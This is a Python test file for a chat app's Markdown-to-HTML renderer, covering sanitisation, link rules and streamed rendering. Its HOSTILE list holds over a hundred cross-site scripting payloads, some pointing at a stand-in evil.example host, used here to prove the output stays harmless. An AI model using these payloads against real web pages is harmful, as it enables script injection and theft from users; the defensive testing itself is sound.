"""Answers are Markdown, rendered to harmless HTML, block by block while they grow."""

from __future__ import annotations

import re
import sys
import threading
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from itertools import product

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st
from linkify_it import LinkifyIt
from markupsafe import Markup

from tests.conftest import HTMX
from webchat.chat.plain import normal_lines
from webchat.chat.texts import title_of
from webchat.render import links
from webchat.render.markdown import GrowingMarkdown, markdown
from webchat.render.rendered import Rendered

UNFINISHED = GrowingMarkdown.unfinished
"""Renders the unfinished part as a whole."""
ELEMENTS = set(
    "a blockquote br button code del details div em figcaption figure h3 h4 h5 h6 hr input kbd li ol p pre s span "
    "strong sub summary sup table tbody td th thead tr ul".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel", "class"},
    "button": {"type", "class"},
    "code": set(),
    "details": {"open"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "figure": {"class"},
    "input": {"type", "class", "checked", "disabled"},
    "li": {"class"},
    "ol": {"start", "class"},
    "ul": {"class"},
    "span": {"class"},
    "td": {"data-align"},
    "th": {"data-align"},
}


def soup_of(text: str) -> BeautifulSoup:
    return BeautifulSoup(markdown(text), "html.parser")


def harm(html: str) -> list[str]:
    """Everything in some HTML that is not on the list of what an answer may have."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name not in ELEMENTS:
            found.append(f"<{tag.name}>")
        found += [f"{tag.name} {name}" for name in set(tag.attrs) - ATTRIBUTES.get(tag.name, set())]
        if tag.name == "a" and not re.match(r"https?://[^/]|mailto:", tag.get("href", "mailto:"), re.I):
            found.append(f"a href={tag['href']}")
        if tag.name == "input" and (tag.get("type"), tag.has_attr("disabled")) != ("checkbox", True):
            found.append(str(tag))
        if tag.name == "button" and tag.get("type") != "button":
            found.append(str(tag))
    return found


# What Markdown becomes


def test_the_usual_marks():
    soup = soup_of("*a* **b** ~~c~~ `d`\n\n> e\n\n---\n\n1. f\n2. g\n\n- h")
    pairs = {"em": "a", "strong": "b", "s": "c", "p code": "d", "blockquote": "e", "ul li": "h"}
    assert {name: soup.select_one(name).get_text().strip() for name in pairs} == pairs
    assert [item.get_text() for item in soup.select("ol li")] == ["f", "g"]
    assert soup.select_one("hr")


def test_a_list_goes_on_counting_where_it_begins():
    assert soup_of("7. seven").select_one("ol")["start"] == "7"


def test_a_table_can_be_scrolled_and_keeps_its_alignment():
    soup = soup_of("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert [cell["data-align"] for cell in soup.select("td")] == ["left", "center", "right"]
    assert [cell.get_text() for cell in soup.select("th")] == ["a", "b", "c"]
    around = soup.select_one("table").parent
    assert (around["role"], around["tabindex"]) == ("region", "0")


def test_a_task_list_shows_what_is_done_and_takes_no_clicks():
    boxes = soup_of("- [ ] open\n- [x] done").select("li.task-list-item input[type=checkbox]")
    assert [box.has_attr("checked") for box in boxes] == [False, True]
    assert all(box.has_attr("disabled") for box in boxes)


def test_code_names_its_language_is_highlighted_and_can_be_copied():
    code = "def f(x):\n    return x < 1 & 2\n"
    figure = soup_of(f"```python\n{code}```").select_one("figure.code")
    assert figure.select_one("figcaption span").get_text() == "python"
    assert figure.select_one("button.copy[type=button]")
    assert figure.select_one("pre code").get_text() == code
    assert {span.get_text() for span in figure.select("code span.k")} == {"def", "return"}


@pytest.mark.parametrize(
    "source", ["```\nplain <b>\n```", "    plain <b>\n", "```no-such-language\nplain <b>\n```", "~~~\nplain <b>\n~~~"]
)
def test_code_of_no_known_language_is_shown_as_it_is(source):
    code = soup_of(source).select_one("pre code")
    assert code.get_text() == "plain <b>\n"
    assert not code.find(True)


def test_code_that_is_very_long_is_shown_without_colours():
    code = soup_of("```python\n" + "x = 1\n" * 6000 + "```").select_one("code")
    assert code.get_text().count("x = 1") == 6000
    assert not code.find(True)


def test_blank_lines_at_the_edges_of_code_are_kept():
    assert soup_of("```python\n\n\nx = 1\n\n```").select_one("code").get_text() == "\n\nx = 1\n\n"


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("[x](https://a.example/b?c=1&d=2)", "https://a.example/b?c=1&d=2"),
        ("[x](HTTP://A.example)", "HTTP://A.example"),
        ("[x](mailto:ada@a.example)", "mailto:ada@a.example"),
        ("<https://a.example>", "https://a.example"),
        ("see https://a.example/b.", "https://a.example/b"),
        ("[x][1]\n\n[1]: https://a.example", "https://a.example"),
        ("[1]: https://a.example\n\n[x][1]", "https://a.example"),
    ],
)
def test_a_link_opens_elsewhere_and_tells_nothing(source, address):
    link = soup_of(source).select_one("a")
    assert link["href"] == address
    assert link["target"] == "_blank"
    assert set(link["rel"]) == {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "text", ["main.py", "example.com", "www.example.com", "ada@example.com", "a.b/c", "https://`a.b`"]
)
def test_only_what_is_written_as_an_address_is_a_link(text):
    assert not soup_of(text).select("a")


LONG_ADDRESS = "https://a.example/" + "x" * links.LONGEST


@pytest.mark.parametrize(
    "text",
    [
        LONG_ADDRESS,
        f"see {LONG_ADDRESS} there",
        f"https://a.example,{'x' * links.LONGEST}",
        f"mailto:{'x' * 5000}@a.example",
    ],
)
def test_an_address_that_is_too_long_stays_text(text):
    soup = soup_of(text)
    assert not soup.select("a")
    assert soup.get_text().strip() == text


def test_addresses_beside_one_that_is_too_long_are_links():
    soup = soup_of(f"https://b.example {LONG_ADDRESS} (https://c.example/d) mailto:ada@a.example")
    assert [link["href"] for link in soup.select("a")] == [
        "https://b.example",
        "https://c.example/d",
        "mailto:ada@a.example",
    ]


def test_after_an_address_that_is_none_nothing_in_the_same_run_is_looked_at(monkeypatch):
    looked_at = []
    match = LinkifyIt.match_at_start
    monkeypatch.setattr(LinkifyIt, "match_at_start", lambda self, text: looked_at.append(text) or match(self, text))
    assert not soup_of("http:///x,http:///y,http:///z " * 3).select("a")
    assert len(looked_at) == 3
    assert max(map(len, looked_at)) < links.LONGEST


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("**https://a.example/b**", "https://a.example/b"),
        ("(https://a.example/b_c_d)", "https://a.example/b_c_d"),
        ("1.https://a.example", "https://a.example"),
        ("| https://a.example/b | c |\n|---|---|", "https://a.example/b"),
        ("mailto:ada@a.example", "mailto:ada@a.example"),
    ],
)
def test_an_address_in_a_text_is_a_link(text, address):
    assert soup_of(text).select_one("a")["href"] == address


def test_one_thread_renders_a_text_for_all_who_wait_and_none_waits_for_another_text():
    begun, go_on, calls = threading.Event(), threading.Event(), []

    def slowly(text):
        calls.append(text)
        if text == "slow":
            begun.set()
            assert go_on.wait(10)
        return Markup(text)

    kept = Rendered(slowly, 1000)
    with ThreadPoolExecutor(4) as pool:
        waiting = [pool.submit(kept.get, "slow") for _ in range(4)]
        assert begun.wait(10)
        assert kept.get("other") == "other"
        go_on.set()
        assert [future.result(10) for future in waiting] == ["slow"] * 4
    assert calls == ["slow", "other"]


def test_a_text_that_could_not_be_rendered_is_tried_again():
    outcomes = [RuntimeError("broken"), Markup("fine")]

    def render_or_fail(text):
        outcome = outcomes.pop(0)
        if isinstance(outcome, Exception):
            raise outcome
        return outcome

    kept = Rendered(render_or_fail, 1000)
    with pytest.raises(RuntimeError):
        kept.get("text")
    assert kept.get("text") == "fine"


@pytest.mark.parametrize(
    "address",
    "sessions/x/end /sessions //evil.example ?q=x #end . http:sessions http:/sessions https:x "
    "ftp://a.example tel:1 file:///etc/passwd \\\\evil.example".split(),
)
def test_a_link_into_the_chat_or_to_another_scheme_leads_nowhere(address):
    for source in (f"[x]({address})", f"[x](<{address}>)", f"![x]({address})", f"<{address}>"):
        assert not soup_of(source).select("a[href]"), source


def test_a_picture_is_a_link_to_it():
    link = soup_of('![a *cat*](https://a.example/cat.png "Tom")').select_one("a.image")
    assert link["href"] == "https://a.example/cat.png"
    assert link.get_text() == "a *cat*"
    assert not soup_of("![x](https://a.example/cat.png)").select("img")


def test_a_picture_without_a_name_can_be_followed_too():
    assert soup_of("![](https://a.example/cat.png)").select_one("a.image").get_text() == "picture"


def test_headings_come_below_those_of_the_page():
    soup = soup_of("# a\n## b\n### c\n#### d\n##### e\n###### f\n\ng\n===\n\nh\n---")
    found = [(tag.name, tag.get_text()) for tag in soup.find_all(re.compile(r"h\d"))]
    assert found == [
        ("h3", "a"),
        ("h4", "b"),
        ("h5", "c"),
        ("h6", "d"),
        ("h6", "e"),
        ("h6", "f"),
        ("h3", "g"),
        ("h4", "h"),
    ]


def test_html_is_shown_as_text():
    assert soup_of("a <p>c</p> <img> &amp; &lt;").get_text().strip() == "a <p>c</p> <img> & <"


def test_any_line_end_will_do():
    assert markdown(normal_lines("# a\r\rb\r\n\r\nc")) == markdown("# a\n\nb\n\nc")


def test_links_stay_right_when_many_are_rendered_at_once():
    texts = [
        f"{'x' * number} https://a{number}.example/{'y' * number} and http://b{number}.example" for number in range(200)
    ]
    expected = [[f"https://a{n}.example/{'y' * n}", f"http://b{n}.example"] for n in range(200)]
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        for attempt in range(2):
            with ThreadPoolExecutor(8) as pool:
                rendered = list(pool.map(lambda text, mark=f"{attempt} ": markdown(mark + text), texts))
            found = [[a["href"] for a in BeautifulSoup(html, "html.parser").select("a")] for html in rendered]
            assert found == expected
    finally:
        sys.setswitchinterval(interval)


# Harm

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img srcset="//evil.example/x 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=message><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</div></article></main><script>alert(1)</script>",
    "</p><p onclick=alert(1)>x",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<  javascript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:http://localhost/x)",
    "[x](view-source:javascript:alert(1))",
    "[x](http:javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    '![x](https://a.example/"onerror="alert(1))',
    '![x](https://a.example/x.png "x\\" onerror=\\"alert(1)")',
    '[x](https://a.example "x\\" onclick=\\"alert(1)")',
    "[x](https://a.example/'onclick='alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onclick="alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "javascript://a.example/%0aalert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x 'y'\n\n![x]",
    "[x]: https://a.example '\"onclick=alert(1) x=\"'\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onclick=alert(1)\ny\n```",
    "```<img/src=x/onerror=alert(1)>\ny\n```",
    '~~~ js"onload="x\ny\n~~~',
    '| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | "><b> |',
    '| a |\n|:-"onclick=alert(1):|\n| b |',
    "# <img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    '- [x"onclick=alert(1)] y',
    '1"onclick=alert(1). x',
    "<sub onclick=alert(1)>x</sub>",
    "<sub><img src=x onerror=alert(1)></sub>",
    "<kbd>x</kbd onclick=alert(1)>",
    "<br onclick=alert(1)>",
    '<sup>"><b onclick=alert(1)></sup>',
    '[![x](https://a.example/"onclick="alert(1))](javascript:alert(1))',
    "<b hx-get=/sessions hx-trigger=load>x</b>",
    "<div data-hx-post=/messages data-hx-trigger='load'>x</div>",
    "<p hx-on:click='alert(1)'>x</p>",
    "<div hx-sse:connect=//evil.example/events></div>",
    "<hx-partial hx-target='#chatArea' hx-swap='innerHTML'>gone</hx-partial>",
    "</hx-partial><hx-partial hx-target=body>gone</hx-partial>",
    "<div id=chatArea class=message data-status=complete>x</div>",
    "<a id=messageInput name=message>x</a>",
    "{{ 7 * 7 }} {% include 'x' %} {{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\0<script\0>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\x1b[31m\x07\x08\x7f\x85\u2028\u2029",
    "\u202e<tpircs>\u202c",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\x0c<img\x0csrc=x\x0conerror=alert(1)>",
    "<" * 2000,
    "[" * 500 + "x" + "](javascript:alert(1))" * 500,
    "> " * 500 + "<script>alert(1)</script>",
]


def test_the_corpus_is_large_enough():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:50])
def test_hostile_text_does_no_harm(text):
    for source in (text, f"- a {text}\n\n> **{text}**", f"| x |\n|---|\n| {text} |"):
        assert harm(markdown(source)) == []
        growing = GrowingMarkdown()
        for end in sorted({len(source) // 2, len(source)}):
            growing.grow(source[:end])
            assert harm("".join([*growing.blocks, growing.tail])) == []


def test_the_judge_of_harm_sees_it():
    bad = ["<script>", "<b>", "<a href=javascript:x>", "<a href=//x>", "<p onclick=x>", "<p style=x>", "<p hx-get=x>"]
    bad += ["<input type=text disabled>", "<input type=checkbox>", "<button>", "<img>", "<hx-partial>", "<div id=x>"]
    for html in bad:
        assert harm(html), html
    assert harm("<p>a<strong>b</strong><a href=https://x>c</a></p>") == []


@given(st.text(alphabet=st.sampled_from(list("<>\"'=&;:/()[]!`*_~|#- \n\tax\0\x0c\u2028")), max_size=60))
@settings(max_examples=200, derandomize=True)
def test_any_mixture_of_marks_does_no_harm(text):
    assert harm(markdown(text)) == []


def without_fences(text: str) -> str:
    return re.sub(r"^[`~]{3}.*", "", text, flags=re.MULTILINE).strip()


def test_hostile_messages_their_titles_and_answers_are_shown_as_text(client, backend, manager):
    messages = [text.replace("\0", "") for text in HOSTILE]
    session_id = manager.create_session().session_id
    for text, message in zip(HOSTILE, messages, strict=True):
        backend.plays(text)
        manager.send_message(message, session_id)
        manager.store.add(f"s{len(manager.list_sessions())}", title_of(message))
    pages = [f"/sessions/{session_id}?show=500", "/sessions", "/sessions?page=1"]
    for path, headers in product(pages, ({}, HTMX)):
        soup = BeautifulSoup(client.get(path, headers=headers).text, "html.parser")
        assert not soup.select("script:not([src]), style, img, object, embed, base, [onerror], [onclick], [style]")
        assert all(str(tag["src"]).startswith("/static/") for tag in soup.select("[src]"))
        assert all(tag["hx-target"].startswith("#") for tag in soup.find_all("hx-partial"))
        assert len(soup.select("#chatArea, #sessionList")) <= 2
        for caption in soup.select("figcaption"):
            caption.decompose()
        questions = [found.get_text() for found in soup.select("article[data-role=user] .content")]
        assert not questions or [*map(without_fences, questions)] == [*map(without_fences, messages)]


def test_a_hostile_title_stays_in_its_place(client, manager):
    title = '</title><script>alert(1)</script>"><img src=x onerror=alert(1)>'
    session_id = manager.create_session(description=title).session_id
    manager.send_message("hello", session_id)
    for path in (f"/sessions/{session_id}", "/sessions"):
        soup = BeautifulSoup(client.get(path).text, "html.parser")
        assert not soup.select("script:not([src]), img")
        assert title in soup.get_text()
    fragment = BeautifulSoup(client.post(f"/sessions/{session_id}/resume", headers=HTMX).text, "html.parser")
    assert fragment.select_one("title").get_text() == f"{title} · Amplifier"


def test_what_the_backend_says_beside_the_text_is_text(client, backend, manager):
    from webchat.backends import Event

    bad = "<img src=x onerror=alert(1)>"
    backend.label = bad
    backend.plays(Event("reasoning", bad), Event("note", bad), Event("tool", bad), "x")
    session_id = manager.create_session().session_id
    manager.send_message("hello", session_id)
    soup = BeautifulSoup(client.get(f"/sessions/{session_id}").text, "html.parser")
    assert not soup.select("img")
    assert soup.get_text().count(bad) >= 4


def test_a_person_s_message_keeps_its_lines_and_is_no_markdown(client, manager):
    message = "# one\n\n  *two*\n\tthree <b>\n- four"
    manager.create_session()
    manager.send_message(message)
    content = BeautifulSoup(client.get("/").text, "html.parser").select_one("article[data-role=user] .content")
    assert content.get_text() == message
    assert [tag.name for tag in content.select(".plain, .plain *")] == ["p"]


# Growing

LINES = [
    "text",
    "more *text*",
    "# heading",
    "===",
    "---",
    "- item",
    "  - inner",
    "* other",
    "1. one",
    "2) two",
    "    code",
    "\tcode",
    "```python",
    "```",
    "~~~",
    "x = '<b>'",
    "> quote",
    ">",
    "> - item",
    "| a | b |",
    "|---|:-:|",
    "| 1 | 2 |",
    "| `1 | 2` | $|x|$ |",
    "[a]: https://a.example",
    "[a]:",
    "[a]: No.",
    "- [09:14]: started",
    "'title",
    "[a] and [b]",
    "[b]: <https://b.example> 'title'",
    "[a]: https://b.example",
    "```md",
    "  ```",
    "> [!NOTE]",
    "So it is.",
    "<p>x</p>",
    "</p>",
    "<a href='https://a.example'>x</a>",
    "[^1]: note",
    "noted[^1]",
    "<details>",
    "<details><summary>s</summary>",
    "</details>",
    "x</details>",
    "```markdown",
    "  1. two",
    "    - inmost",
    "- [ ] task",
    "- [x] done",
    "<div>",
    "***",
    "\\",
    "",
    "",
    "",
    " ",
    "\u00a0",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\0",
    "&nbsp;",
]
TEXTS = st.one_of(
    st.lists(st.sampled_from(LINES), max_size=14).map("\n".join),
    st.text(alphabet="ab*_`#>-|:[]()!~ \n\t1.\u00a0\x0c\x1c", max_size=60),
)


@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
@settings(max_examples=300, derandomize=True)
@example("[a]: https://a.example\n\n[a]\n\n- b\n\n  c\n\nd\n", list(range(60)))
@example("```\na\n\nb\n```\nc\n", list(range(30)))
@example("a\n\n\x1c\n", list(range(8)))
@example("- a\n\n\n- b\n\nc", list(range(16)))
@example("[a]\n\n[a]: https://a.example\n\nb\n", list(range(40)))
@example("[a]\n \n[a]: https://a.example\n", list(range(40)))
def test_an_answer_that_grows_becomes_what_it_would_be_at_once(text, cuts):
    growing = GrowingMarkdown()
    finished: list[str] = []
    for end in sorted({min(cut, len(text)) for cut in cuts}):
        growing.grow(text[:end])
        assert growing.blocks[: len(finished)] == finished, "a finished block changed"
        finished = list(growing.blocks)
    growing.grow(text, final=True)
    if not re.search(r"\[[^\]]+\]:", text):  # a definition for which finished blocks may have waited
        assert growing.blocks[: len(finished)] == finished
    assert "".join(growing.blocks) == markdown(text)
    assert growing.tail == ""


OPEN = ["| a | b |", "|---|---|", "| 1 | `2` |", "| *x* | y & z |", "|", "| ا |", "```python", "``", "~~~", "  ```"]
OPEN += [
    "| `1 | 2` | $|x|$ | 3 |",
    "| a[^1] | $x^2$ |",
    "[^1]: note",
    "    | x |",
    "x = 1",
    "",
    "  ",
    "[x]: https://a.example",
    "| [x] | <b> |",
    "\u202eab",
    "a\u00a0b",
    "\0",
]


@given(
    st.sampled_from(["", "| a | b |\n|---|---|\n| 1 | 2 |\n", "```py\n", " ~~~ x\n", "| ا |\n|---|\n| a |\n"]),
    st.lists(st.sampled_from(OPEN), max_size=12),
    st.lists(st.integers(0, 200), max_size=12),
)
@settings(max_examples=300, derandomize=True)
def test_code_and_tables_that_grow_by_lines_are_what_they_would_be_at_once(head, lines, cuts):
    text = head + "\n".join(lines)
    growing = GrowingMarkdown()
    for end in sorted({min(cut, len(text)) for cut in cuts}):
        growing.grow(text[:end])
        assert growing.tail == UNFINISHED(growing, text[growing.shown : end])


@pytest.mark.parametrize(
    ("head", "line"), [("| a | b |\n|---|---|\n| 1 | 2 |\n", "| x | *y* |\n"), ("```python\n", "x = [1, 2]  # <&\n")]
)
def test_each_line_of_a_long_table_or_code_block_is_rendered_once(head, line, monkeypatch):
    growing, rendered = GrowingMarkdown(), []
    monkeypatch.setattr(
        GrowingMarkdown, "unfinished", lambda self, text: rendered.append(len(text)) or UNFINISHED(self, text)
    )
    for count in range(400):
        growing.grow(head + line * count + line[: count % len(line)])
    assert growing.tail.count("x") >= 399
    assert sum(rendered) < 400 * 4 * (len(head) + 2 * len(line))
    assert growing.again == 0


@given(TEXTS)
@settings(max_examples=200, derandomize=True)
def test_nothing_of_an_unfinished_answer_is_hidden(text):
    growing = GrowingMarkdown()
    growing.grow(text)
    shown = BeautifulSoup("".join([*growing.blocks, growing.tail]), "html.parser")
    whole = soup_of(text)
    for soup in (shown, whole):
        for caption in soup.select("figcaption"):  # the names of languages and the buttons belong to the page
            caption.decompose()
    for definition in whole.select("p"):
        if re.match(r"\[[^\]]+\]: \S+", definition.get_text()):  # shown only at the end, if nothing refers to it
            definition.decompose()
    assert Counter(re.findall(r"\w", whole.get_text())) <= Counter(re.findall(r"\w", shown.get_text()))


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("- a\n\n- b\n\n  c\n", "ul"),
        ("1. a\n\n   b\n\n2. c\n", "ol"),
        ("    a\n\n    b\n", "figure"),
        ("```\na\n\nb\n```\n", "figure"),
        ("- a\n\n  ```\n  b\n\n  c\n  ```\n", "figure"),
    ],
)
def test_what_goes_on_behind_an_empty_line_stays_one(text, name):
    growing = GrowingMarkdown()
    for end in range(len(text)):
        growing.grow(text[:end])
    growing.grow(text, final=True)
    assert len(BeautifulSoup("".join(growing.blocks), "html.parser").select(name)) == 1


def test_a_block_is_finished_when_a_later_one_has_begun():
    growing = GrowingMarkdown()
    growing.grow("# a\nb")
    assert growing.blocks == []
    growing.grow("# a\nb\n")
    assert growing.blocks == ["<h3>a</h3>\n"]
    assert growing.shown == len("# a\n")
    assert growing.tail == "<p>b</p>\n"


def test_an_open_fence_is_plain_until_it_closes():
    growing = GrowingMarkdown()
    growing.grow("```python\nx = 1\n")
    assert "<span class" not in growing.tail
    assert "x = 1" in growing.tail
    growing.grow("```python\nx = 1\n```\n\nb\n\nc\n")
    assert '<span class="n">x</span>' in growing.blocks[0]


def test_a_reader_gets_the_blocks_behind_what_it_has():
    growing = GrowingMarkdown()
    growing.grow("a\n\nb\n\nc\n\nd")
    edges = [*growing.starts, growing.shown]
    for number, edge in enumerate(edges):
        assert list(growing.since(edge)) == growing.blocks[number:]
    for elsewhere in (1, growing.shown + 1, 10**9, -1):
        assert growing.since(elsewhere) is None


def test_blocks_from_right_to_left_find_their_side():
    html = markdown("# ا\n\nب\n\n- أولاً\n\n1. ثانياً\n\n> ثالثاً\n\n| ا | ب |\n|---|---|\n| 1 | 2 |")
    for tag in ("h3", "p", "ul", "ol", "blockquote", "table"):
        assert f'<{tag} dir="auto">' in html


def test_a_quotation_from_right_to_left_takes_its_side_from_the_lines_in_it():
    assert markdown("> ثالثاً").count("dir=") == 1


def test_what_has_no_such_script_is_left_as_it_is():
    assert "dir=" not in markdown("- one\n\n> two\n\n| a |\n|---|\n| 1 |")


def test_what_is_kept_of_rendered_texts_is_bounded_by_its_size():
    kept = Rendered(lambda text: Markup(f"<p>{text}</p>\n"), 1400)
    first, second = kept.get("a" * 300), kept.get("b" * 300)
    assert kept.get("a" * 300) is first  # used last, so the other one is evicted
    kept.get("c" * 100)
    assert kept.get("a" * 300) is first
    assert kept.get("b" * 300) is not second
    larger = kept.get("d" * 2000)  # than the whole cache
    assert kept.get("d" * 2000) is not larger
    assert kept.get("a" * 300) is not first
